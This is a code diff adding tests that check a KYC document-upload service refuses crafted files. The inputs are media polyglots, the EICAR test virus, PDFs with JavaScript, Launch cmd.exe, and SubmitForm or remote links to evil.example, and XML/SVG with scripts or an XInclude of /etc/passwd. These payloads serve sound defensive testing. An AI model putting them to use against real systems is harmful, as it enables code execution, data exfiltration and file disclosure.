@@ -1,0 +1,189 @@
+import { DocumentType } from '@kyc/contract/document-types';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { openIntake } from '../../../../testing/open-intake.ts';
+import * as strange from '../../../../testing/strange-files.ts';
+
+const { house, send, started, stored } = await openIntake();
+afterAll(house.close);
+let id: number;
+beforeAll(async () => {
+  id = await started();
+});
+
+const put = (documentType: number, bytes: Buffer) =>
+  send({ method: 'PUT', path: `/${id}/documents/${documentType}`, bytes });
+
+async function refused(documentType: number, bytes: Buffer): Promise<void> {
+  const before = (await stored(id)).documents.length;
+  const answer = await put(documentType, bytes);
+  expect([415, 422], answer.body).toContain(answer.statusCode);
+  expect((await stored(id)).documents).toHaveLength(before);
+}
+
+const { mp4, webm, box, eicar, html, program, archive } = strange;
+const [head, ebml] = [mp4.subarray(0, 32), webm.subarray(0, 4)];
+const headOfWebm = Buffer.concat([ebml, Buffer.from('\x9fB\x86\x81\x01B\x82\x84webm', 'latin1')]);
+
+describe('M12 a video is looked into', () => {
+  test.each<[string, Buffer]>([
+    ['twelve bytes', mp4.subarray(0, 12)],
+    ['the head alone', head],
+    ['a page behind the head', Buffer.concat([head, html])],
+    ['a program behind the head', Buffer.concat([head, program])],
+    ['the test virus behind the head', Buffer.concat([head, box('mdat', eicar)])],
+    ['the test virus behind a video', Buffer.concat([mp4, box('free', eicar)])],
+    ['a page behind a video', Buffer.concat([mp4, html])],
+    ['an archive behind a video', Buffer.concat([mp4, archive()])],
+    [
+      'a page in room that is free',
+      Buffer.concat([mp4, box('free', Buffer.concat([html, Buffer.alloc(2000)]))]),
+    ],
+    ['a page in a box of its own', Buffer.concat([mp4, box('html', html)])],
+    ['a cut video', mp4.subarray(0, mp4.length - 500)],
+    [
+      'pictures that are a page',
+      Buffer.concat([mp4.subarray(0, mp4.length - 7000), Buffer.alloc(7000, '<b>')]),
+    ],
+    ['a box longer than the file', Buffer.concat([mp4, Buffer.from('\xff\xff\xff\xfffree', 'latin1')])],
+    ['four bytes of WebM', Buffer.concat([ebml, Buffer.from('webm')])],
+    ['the head of WebM alone', headOfWebm],
+    ['a page behind the head of WebM', Buffer.concat([headOfWebm, html])],
+    ['a page behind a WebM', Buffer.concat([webm, html])],
+    ['an archive behind a WebM', Buffer.concat([webm, archive()])],
+    ['a cut WebM', webm.subarray(0, webm.length - 500)],
+  ])('%s is refused', async (_what, bytes) => {
+    await refused(DocumentType.IPV, bytes);
+  });
+
+  test.each([
+    ['MP4', mp4],
+    ['WebM', webm],
+  ])('an honest %s is kept as it came', async (_what, bytes) => {
+    const answer = await put(DocumentType.IPV, bytes);
+    expect([answer.statusCode, answer.body]).toEqual([200, expect.anything()]);
+    expect((await stored(id)).documents.at(-1)?.size_bytes).toBe(bytes.length);
+  });
+});
+
+const { pdfOf, pdfWithNote, pdfWithStream } = strange;
+
+describe('M12 a PDF acts by nothing, leads nowhere else and is nothing else', () => {
+  test.each<[string, Buffer | (() => Promise<Buffer>)]>([
+    ['a step into an attachment', pdfWithNote('/A<</S/GoToE/T<</R/C/N(a)>>>>')],
+    [
+      'a step to a share of the network',
+      pdfWithNote(String.raw`/A<</S/GoToR/F(\\\\evil\\share\\a.pdf)/D[0/Fit]>>`),
+    ],
+    ['an address that is a script', pdfWithNote('/A<</S/URI/URI(javascript:alert\\(1\\))>>')],
+    ['an address of a file', pdfWithNote('/A<</S/URI/URI(file:///etc/passwd)>>')],
+    ['an address of the network', pdfWithNote(String.raw`/A<</S/URI/URI(\\\\evil\\share)>>`)],
+    ['an attached file', pdfWithNote('/FS<</Type/Filespec/F(a.exe)>>')],
+    [
+      'a paper clip',
+      Buffer.from(
+        pdfWithNote('').toString('latin1').replace('Subtype/Link', 'Subtype/FileAttachment'),
+        'latin1',
+      ),
+    ],
+    ['a film', pdfWithNote('/A<</S/Rendition/OP 0>>')],
+    ['a script by another spelling', pdfWithNote('/A<</S/J#61vaScript/J#53(app.alert\\(1\\))>>')],
+    [
+      'a script by a detour',
+      Buffer.from(
+        pdfWithNote('/A<</S 5 0 R>>')
+          .toString('latin1')
+          .replace('trailer', '5 0 obj\n/JavaScript\nendobj\ntrailer'),
+        'latin1',
+      ),
+    ],
+    ['a script in an older revision', strange.pdfOfTwoRevisions()],
+    ['a script packed in an older revision', strange.pdfOfPackedRevisions],
+    [
+      'an object hidden in a stream',
+      pdfWithStream(Buffer.from('6 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj'), false),
+    ],
+    [
+      'contents that lie elsewhere',
+      Buffer.from(
+        pdfWithNote('')
+          .toString('latin1')
+          .replace(
+            'trailer',
+            '5 0 obj\n<</Length 0/F(http://evil.example/a)>>\nstream\n\nendstream\nendobj\ntrailer',
+          ),
+        'latin1',
+      ),
+    ],
+    [
+      'a page behind it',
+      pdfOf(
+        [
+          '<</Type/Catalog/Pages 2 0 R>>',
+          '<</Type/Pages/Kids[3 0 R]/Count 1>>',
+          '<</Type/Page/Parent 2 0 R>>',
+        ],
+        html.toString(),
+      ),
+    ],
+    [
+      'a page in a remark',
+      Buffer.from(
+        pdfWithNote('').toString('latin1').replace('\n1 0 obj', `\n%${html.toString()}\n1 0 obj`),
+        'latin1',
+      ),
+    ],
+    ['an archive behind it', Buffer.concat([pdfWithNote(''), archive()])],
+    ['an archive in a stream', pdfWithStream(archive(), false)],
+    ['the test virus in a stream', pdfWithStream(eicar, false)],
+    ['the test virus packed in a stream', pdfWithStream(eicar, true)],
+    ['a script behind a form for data', pdfWithNote('/A<</S/SubmitForm/F(http://evil.example)>>')],
+    ['a program to begin', pdfWithNote('/A<</S/Launch/F(cmd.exe)>>')],
+    ['a form of XML', pdfWithNote('', '/AcroForm<</XFA(x)>>')],
+  ])('%s is refused', async (_what, made) => {
+    await refused(DocumentType.IncomeProof, typeof made === 'function' ? await made() : made);
+  });
+
+  test.each<[string, () => Promise<Buffer> | Buffer]>([
+    ['a form', strange.honestPdf],
+    ['a link to a page', () => pdfWithNote('/A<</S/URI/URI(https://example.in/Launch/a?b=c)>>')],
+    ['a link to a place in it', () => pdfWithNote('/A<</S/GoTo/D[3 0 R/Fit]>>', '/OpenAction[3 0 R/Fit]')],
+    ['a letter to write', () => pdfWithNote('/A<</S/URI/URI(mailto:help@example.in)>>')],
+    ['a picture in a stream', () => pdfWithStream(Buffer.alloc(300_000, 'picture <svg> '), true)],
+  ])('%s is kept', async (_what, made) => {
+    const answer = await put(DocumentType.IncomeProof, await made());
+    expect(answer.statusCode, answer.body).toBe(200);
+  });
+});
+
+describe('M12 an Aadhaar XML is data', () => {
+  const svg = 'http://www.w3.org/2000/svg';
+  const declared = '<?xml version="1.0" encoding="UTF-8"?>';
+  test.each([
+    ['SVG with a script', `${declared}<svg xmlns="${svg}"><script>alert(1)</script></svg>`],
+    ['SVG by a prefix', `${declared}<a xmlns:s="${svg}"><s:svg/></a>`],
+    ['XHTML', `${declared}<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`],
+    [
+      'XInclude',
+      `${declared}<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>`,
+    ],
+    ['a style sheet of XSL', `${declared}<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/>`],
+    ['an event', `${declared}<a onload="alert(1)"/>`],
+    ['an address that is a script', `${declared}<a href="javascript:alert(1)"/>`],
+    ['the test virus', `${declared}<a>${eicar.toString().replaceAll('&', '&amp;')}</a>`],
+  ])('%s is refused', async (_what, text) => {
+    await refused(DocumentType.AadhaarXml, Buffer.from(text));
+  });
+
+  test('one that is signed is kept', async () => {
+    const signed = `${declared}<OfflinePaperlessKyc referenceId="2346"><UidData><Poi name="A"/></UidData><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI=""/></SignedInfo></Signature></OfflinePaperlessKyc>`;
+    expect((await put(DocumentType.AadhaarXml, Buffer.from(signed))).statusCode).toBe(200);
+  });
+});
+
+test('M12 the test virus as a picture is refused as what it is', async () => {
+  const answer = await put(DocumentType.IncomeProof, Buffer.concat([Buffer.from('%PDF-1.4\n'), eicar]));
+  expect([answer.statusCode, answer.json<{ Message: string }>().Message]).toEqual([
+    422,
+    'The file was refused by the check for malware.',
+  ]);
+});
